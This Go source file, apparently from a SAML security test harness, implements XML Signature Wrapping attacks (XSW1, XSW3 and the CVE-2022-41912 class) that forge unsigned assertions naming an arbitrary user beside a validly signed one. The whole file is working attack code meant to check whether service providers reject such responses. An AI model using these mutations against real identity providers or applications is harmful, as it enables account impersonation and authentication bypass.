package forge

import (
	"errors"

	"github.com/beevik/etree"
)

// Signature wrapping: what was signed stays in the document, whole and valid,
// and something that nobody signed stands beside it. A service provider that
// verifies the one and reads the other lets the attacker be anybody.
//
// All of these name the person of Context.Carry in the unsigned part and keep
// namespaces, so that a sound service provider refuses for the right reason.

// WrapFirst puts an unsigned assertion in front of the signed one (XSW3). The
// assertion must be signed and the response must not: its signature would be
// broken, and the refusal would prove nothing.
func WrapFirst() Mutation {
	return after("an unsigned assertion before the signed one", func(r *etree.Element, with Context) error {
		genuine, err := aloneSigned(r)
		if err != nil {
			return err
		}
		return impostor(genuine, genuine.Index(), with)
	})
}

// WrapLast puts an unsigned assertion behind the signed one (the class of
// CVE-2022-41912). The same holds as for WrapFirst.
func WrapLast() Mutation {
	return after("an unsigned assertion after the signed one", func(r *etree.Element, with Context) error {
		genuine, err := aloneSigned(r)
		if err != nil {
			return err
		}
		return impostor(genuine, genuine.Index()+1, with)
	})
}

// WrapResponse makes an unsigned response around the signed one (XSW1): the
// genuine response lies in an Object of its own signature, which is still the
// first signature that the outer one shows. Only the response may be signed.
func WrapResponse() Mutation {
	return after("an unsigned response around the signed one", func(r *etree.Element, with Context) error {
		sig := child(r, nsSignature, "Signature")
		if !is(r, nsProtocol, "Response") || sig == nil {
			return errors.New("forge: the response is not signed: nothing to wrap")
		}
		assertion, err := onlyAssertion(r)
		if err != nil {
			return err
		}
		genuine := r.Copy() // the root declares its own namespaces
		genuine.RemoveChild(child(genuine, nsSignature, "Signature"))
		if err := impostor(assertion, assertion.Index(), with); err != nil {
			return err
		}
		r.RemoveChild(assertion)
		r.CreateAttr("ID", with.NewID())
		object := etree.NewElement("Object")
		object.Space = sig.Space
		object.AddChild(genuine)
		sig.AddChild(object)
		return nil
	})
}

// aloneSigned is the one assertion of a response that is signed in the
// assertion and nowhere else.
func aloneSigned(r *etree.Element) (*etree.Element, error) {
	if child(r, nsSignature, "Signature") != nil {
		return nil, errors.New("forge: the response is signed too and would be broken: have the assertion signed alone")
	}
	a, err := onlyAssertion(r)
	if err != nil {
		return nil, err
	}
	if child(a, nsSignature, "Signature") == nil {
		return nil, errors.New("forge: the assertion is not signed: nothing to wrap")
	}
	return a, nil
}

func onlyAssertion(r *etree.Element) (*etree.Element, error) {
	found := findAll(r, nsAssertion, "Assertion")
	if len(found) != 1 || found[0].Parent() != r {
		return nil, errors.New("forge: other than one assertion in the response")
	}
	return found[0], nil
}

// impostor puts a copy of the assertion at the given place among its siblings,
// leaves the copy's signature out, gives it an id of its own and has it name
// the person of with.Carry.
func impostor(a *etree.Element, at int, with Context) error {
	if with.NewID == nil {
		return errors.New("forge: no way to make an id")
	}
	evil := a.Copy()
	a.Parent().InsertChildAt(at, evil) // before it is edited: its namespaces may be declared further up
	if sig := child(evil, nsSignature, "Signature"); sig != nil {
		evil.RemoveChild(sig)
	}
	old, id := evil.SelectAttrValue("ID", ""), with.NewID()
	evil.CreateAttr("ID", id)
	for _, st := range findAll(evil, nsAssertion, "AuthnStatement") {
		if index := st.SelectAttr("SessionIndex"); index != nil && index.Value == old {
			index.Value = id // Entra's two are one
		}
	}
	return rename(evil, func(e *etree.Element, victim string) { e.SetText(victim) }, with.Carry)
}
